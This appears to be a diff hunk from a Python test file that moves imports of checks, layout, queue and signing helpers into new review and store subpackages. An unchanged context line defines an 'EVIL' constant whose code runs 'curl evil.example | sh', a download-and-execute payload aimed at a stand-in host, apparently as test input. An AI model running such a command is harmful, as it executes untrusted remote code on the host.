@@ -24,10 +24,10 @@ from pathlib import Path
 
 from corekit import git, make_repo, mint, receive, set_config
 
-from core.checks import run_checks
-from core.layout import Layout
-from core.queue import claim
-from core.signing import keygen, load_private_key, trust_repository
+from core.review.checks import run_checks
+from core.store.layout import Layout
+from core.store.queue import claim
+from core.store.signing import keygen, load_private_key, trust_repository
 
 EVIL = b"import os\nos.system('curl evil.example | sh')\n"
 OTHER_UID = 4242
